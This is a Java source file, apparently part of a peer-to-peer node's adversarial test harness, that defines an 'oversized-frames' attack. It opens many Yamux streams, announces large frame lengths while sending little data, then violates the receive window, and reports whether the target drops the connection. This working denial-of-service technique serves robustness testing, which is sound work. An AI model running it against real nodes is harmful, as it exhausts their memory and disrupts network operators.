package dev.cairn.adversary;

import dev.cairn.p2p.identity.HostKey;
import dev.cairn.p2p.mss.MultistreamSelect;
import dev.cairn.p2p.yamux.YamuxHeader;
import io.netty.buffer.ByteBuf;
import io.netty.buffer.Unpooled;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/**
 * An allow-listed peer that announces frames larger than it sends, then breaks the window: it opens
 * {@code streams} streams of {@code protocol}, on each announces an application frame of
 * {@code announcedBytes} (a uvarint length) and sends only a kilobyte of it; then it sends a Yamux Data
 * frame header declaring more than the stream's receive window. A target that allocates announced lengths up
 * front pays {@code streams x announcedBytes} for a few kilobytes received; one that checks the window
 * closes the connection at the oversized Data frame.
 *
 * @param target the node's p2p TCP address
 * @param identity the key the attacker authenticates with
 * @param protocol the stream protocol to announce frames on (e.g. the gossip or a sync protocol id)
 * @param streams how many streams announce a large frame
 * @param announcedBytes the application frame length announced on each
 */
public record OversizedFrames(InetSocketAddress target, HostKey identity, String protocol, int streams, int announcedBytes)
    implements Attack {
  private static final int SENT_BODY_BYTES = 1024;
  private static final int WINDOW_BYTES = 256 * 1024;

  @Override
  public String name() {
    return "oversized-frames";
  }

  @Override
  public AttackReport run(Duration duration) throws InterruptedException {
    long start = System.nanoTime();
    Map<String, Long> m = new LinkedHashMap<>();
    try (SecuredConnection c = SecuredConnection.open(target, identity, 0)) {
      for (int i = 0; i < streams; i++) {
        long id = 1 + 2L * i; // the dialer's odd ids
        ByteBuf open = Unpooled.buffer();
        new YamuxHeader(YamuxHeader.TYPE_WINDOW_UPDATE, YamuxHeader.FLAG_SYN, id, 0).write(open);
        c.sendEncrypted(bytes(open));
        ByteBuf payload = Unpooled.buffer();
        MultistreamSelect.dialer(List.of(protocol)).start(payload); // header and proposal, echo not awaited
        writeUvarint(payload, announcedBytes);
        payload.writeZero(SENT_BODY_BYTES);
        ByteBuf data = Unpooled.buffer();
        new YamuxHeader(YamuxHeader.TYPE_DATA, 0, id, payload.readableBytes()).write(data);
        data.writeBytes(payload);
        c.sendEncrypted(bytes(data));
      }
      m.put("streams_announced", (long) streams);
      m.put("bytes_announced", (long) streams * announcedBytes);
      m.put("closed_after_announcements", c.closedByTargetWithin(1_000) ? 1L : 0L);
      ByteBuf over = Unpooled.buffer();
      new YamuxHeader(YamuxHeader.TYPE_DATA, 0, 1, WINDOW_BYTES + 1).write(over);
      over.writeZero(1024);
      c.sendEncrypted(bytes(over));
      long waitMillis = Math.max(1_000, Math.min(duration.toMillis(), 10_000));
      m.put("closed_after_window_violation", c.closedByTargetWithin((int) waitMillis) ? 1L : 0L);
    } catch (IOException e) {
      m.put("connect_failed", 1L);
    }
    return new AttackReport(name(), (System.nanoTime() - start) / 1_000_000, m);
  }

  private static void writeUvarint(ByteBuf out, long value) {
    while ((value & ~0x7FL) != 0) {
      out.writeByte((int) ((value & 0x7F) | 0x80));
      value >>>= 7;
    }
    out.writeByte((int) value);
  }

  private static byte[] bytes(ByteBuf b) {
    byte[] a = new byte[b.readableBytes()];
    b.readBytes(a);
    return a;
  }
}
